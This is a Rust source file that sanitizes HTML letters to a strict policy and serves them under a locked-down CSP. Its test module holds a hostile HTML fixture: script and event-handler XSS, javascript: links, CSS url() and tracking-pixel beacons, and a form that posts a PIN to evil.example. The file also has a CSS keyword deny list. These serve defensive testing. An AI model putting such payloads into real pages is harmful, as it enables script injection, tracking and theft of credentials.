//! HTML letters, cleaned to the DPI HTML rules before a browser sees them: no scripts or
//! event handlers, no forms, no external references (images only as `data:` URIs, no
//! stylesheets or `url()` in styles), links only `http(s)`/`mailto` and opened in a new
//! window. The cleaned document is served on its own under [`DOCUMENT_CSP`], in a sandboxed
//! frame, so even a sanitizer miss could neither run code nor load anything.

use std::borrow::Cow;
use std::collections::HashSet;

/// Policy of a served HTML letter: nothing but inline styles and `data:` images, no scripts
/// (also `sandbox` without `allow-scripts`), framed only by our own pages.
pub const DOCUMENT_CSP: &str = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; \
     form-action 'none'; base-uri 'none'; frame-ancestors 'self'; \
     sandbox allow-popups allow-popups-to-escape-sandbox";

const DATA_IMAGE_PREFIXES: [&str; 4] = [
    "data:image/png",
    "data:image/jpeg",
    "data:image/jpg",
    "data:image/gif",
];

fn safe_style(v: &str) -> bool {
    let l = v.to_ascii_lowercase();
    // Backslash escapes could spell any of the words below.
    ![
        "url(",
        "expression",
        "@import",
        "javascript:",
        "behavior",
        "-moz-binding",
        "\\",
        "image-set",
        "src(",
    ]
    .iter()
    .any(|bad| l.contains(bad))
}

fn filter(element: &str, attribute: &str, value: &str) -> Option<String> {
    match (element, attribute) {
        ("img", "src") => {
            let v = value.trim();
            let lower = v.to_ascii_lowercase();
            // Single-line data: URIs of raster formats only (DPI rule; no SVG).
            (DATA_IMAGE_PREFIXES.iter().any(|p| lower.starts_with(p))
                && !v.contains('\n')
                && !v.contains('\r'))
            .then(|| v.to_owned())
        }
        ("a", "href") => {
            let lower = value.trim().to_ascii_lowercase();
            (lower.starts_with("https://")
                || lower.starts_with("http://")
                || lower.starts_with("mailto:"))
            .then(|| value.trim().to_owned())
        }
        (_, "style") => safe_style(value).then(|| value.to_owned()),
        ("hr", "align") => None,
        _ => Some(value.to_owned()),
    }
}

/// Cleans an HTML letter to a body fragment.
pub fn sanitize(input: &str) -> String {
    let generic: HashSet<&str> = [
        "lang", "dir", "title", "style", "class", "align", "valign", "width", "height",
    ]
    .into_iter()
    .collect();
    let mut b = ammonia::Builder::default();
    b.rm_tags(["img"]) // re-added below with its own attributes
        .add_tags(["img", "font", "center", "caption", "colgroup", "col"])
        .generic_attributes(generic)
        .add_tag_attributes("img", ["src", "alt"])
        .add_tag_attributes("td", ["colspan", "rowspan", "bgcolor"])
        .add_tag_attributes("th", ["colspan", "rowspan", "bgcolor", "scope"])
        .add_tag_attributes("table", ["border", "cellpadding", "cellspacing", "bgcolor"])
        .add_tag_attributes("font", ["color", "size", "face"])
        .add_tag_attributes("a", ["href"])
        .url_schemes(["http", "https", "mailto", "data"].into_iter().collect())
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .set_tag_attribute_value("a", "target", "_blank")
        .strip_comments(true)
        .attribute_filter(|element, attribute, value| {
            filter(element, attribute, value).map(Cow::Owned)
        });
    b.clean(input).to_string()
}

fn esc(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A whole document around the cleaned letter, for the sandboxed frame.
pub fn document(input: &str, title: &str, lang: &str) -> String {
    let lang: String = lang
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
        .take(12)
        .collect();
    format!(
        "<!DOCTYPE html>\n<html lang=\"{}\">\n<head>\n<meta charset=\"utf-8\">\n\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n\
         <title>{}</title>\n</head>\n<body>\n<main>\n{}\n</main>\n</body>\n</html>\n",
        if lang.is_empty() { "no" } else { &lang },
        esc(title),
        sanitize(input)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = r#"<html><head><script>alert(1)</script>
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body{background:url(https://evil.example/track.png)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"></head>
<body onload="alert(2)">
<h1 onclick="alert(3)" style="color: red">Vedtak</h1>
<p>Hei <b>Kari</b>, <a href="javascript:alert(4)">klikk</a> og
<a href="https://www.nav.no/svar">svar her</a>.</p>
<img src="https://evil.example/pixel.gif" alt="sporing">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="vektor">
<form action="https://evil.example/steal"><input name="pin"><button>Send</button></form>
<iframe src="https://evil.example/"></iframe>
<object data="x.swf"></object><embed src="x.swf">
<svg><script>alert(5)</script></svg>
<p style="background-image: url(https://evil.example/b.png)">bakgrunn</p>
<p style="width: expr\ession(alert(6))">css-uttrykk</p>
<a href="vedlegg.html">relativ</a>
<hr align="left">
<!-- kommentar -->
</body></html>"#;

    #[test]
    fn hostile_html_loses_everything_active() {
        let out = sanitize(HOSTILE);
        let lower = out.to_ascii_lowercase();
        for bad in [
            "<script",
            "alert(",
            "onload",
            "onclick",
            "javascript:",
            "evil.example",
            "<form",
            "<input",
            "<button",
            "<iframe",
            "<object",
            "<embed",
            "<link",
            "<meta",
            "<base",
            "<style",
            "url(",
            "expr",
            "<svg",
            "image/svg",
            "vedlegg.html",
            "<!--",
            "align=\"left\"",
        ] {
            assert!(!lower.contains(bad), "{bad} survived in: {out}");
        }
        // The letter itself stays readable.
        assert!(out.contains("Vedtak"));
        assert!(out.contains("style=\"color: red\""));
        assert!(out.contains("<b>Kari</b>"));
        assert!(out.contains("href=\"https://www.nav.no/svar\""));
        assert!(out.contains("target=\"_blank\""));
        assert!(out.contains("rel=\"noopener noreferrer\""));
        assert!(out.contains("src=\"data:image/png;base64,iVBORw0KGgo=\""));
        assert!(out.contains("bakgrunn"));
    }

    #[test]
    fn document_escapes_title_and_lang() {
        let d = document("<p>x</p>", "<script>", "no\"><script>");
        assert!(!d.contains("<script>"));
        assert!(d.contains("lang=\"noscript\""));
    }
}
